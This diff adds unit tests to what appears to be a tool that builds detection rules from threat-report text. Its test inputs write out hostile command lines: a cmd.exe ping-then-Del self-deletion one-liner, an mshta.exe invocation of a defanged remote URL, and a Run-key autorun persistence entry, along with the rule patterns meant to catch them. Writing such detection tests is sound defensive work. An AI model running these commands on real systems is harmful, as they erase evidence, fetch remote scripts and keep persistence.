@@ -20,6 +20,37 @@ describe('rules on hosts', () => {
     expect(yaml).toMatch(/contains\|all:\n\s+- 'copy'\n(?:.*\n)*?\s+- '\\heronget7\.exe'/);
   });
 
+  it('tell a shell that waits and then deletes what started it from network discovery', async () => {
+    const rules = await rulesOf('It ends with:\n\ncmd.exe /C ping 198.18.7.7 -n 1 -w 3000 > Nul & Del /f /q "%s"\n');
+    expect(rules.map(({ title }) => title)).toEqual(['Delayed Self-Deletion By Command Shell']);
+    expect(rules[0]?.techniques).toEqual(['T1070.004']);
+    expect(yamlOf(rules)).toMatch(/- 'ping '\n\s+- '&'\n\s+- 'Del '/);
+  });
+
+  it('keep that a script host is given an address, defanged or not', async () => {
+    const yaml = yamlOf(
+      await rulesOf('It has the string “mshta.exe hxxps://h.]mp/heronfogheron”, which runs a script.'),
+    );
+    expect(yaml).toContain("Image|endswith: '\\mshta.exe'");
+    expect(yaml).toContain("CommandLine|contains: 'https://'");
+  });
+
+  it('pair an autorun key with the program that the next sentence says it starts', async () => {
+    const yaml = yamlOf(
+      await rulesOf(
+        'It adds an entry under HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run, as shown. The copied heronfog.js is then executed automatically at logon.',
+      ),
+    );
+    expect(yaml).toContain("Details|contains: 'heronfog.js'");
+  });
+
+  it.each(['\\ShareName\\fogheron.dat', '\\Windows\\DOMAINNAME.exe', '\\HERON\\<user>.exe'])(
+    'rest on no stand-in for a name that is not shown: C:%s',
+    async (path) => {
+      expect(yamlOf(await rulesOf(`The loader was written to C:${path} first.`))).not.toContain('TargetFilename');
+    },
+  );
+
   it('keep an option whose value is not shown', async () => {
     const yaml = yamlOf(await rulesOf('They ran:\n\nwmic /node:<REDACTED> process list brief\n'));
     expect(yaml).toContain("- '/node:'");
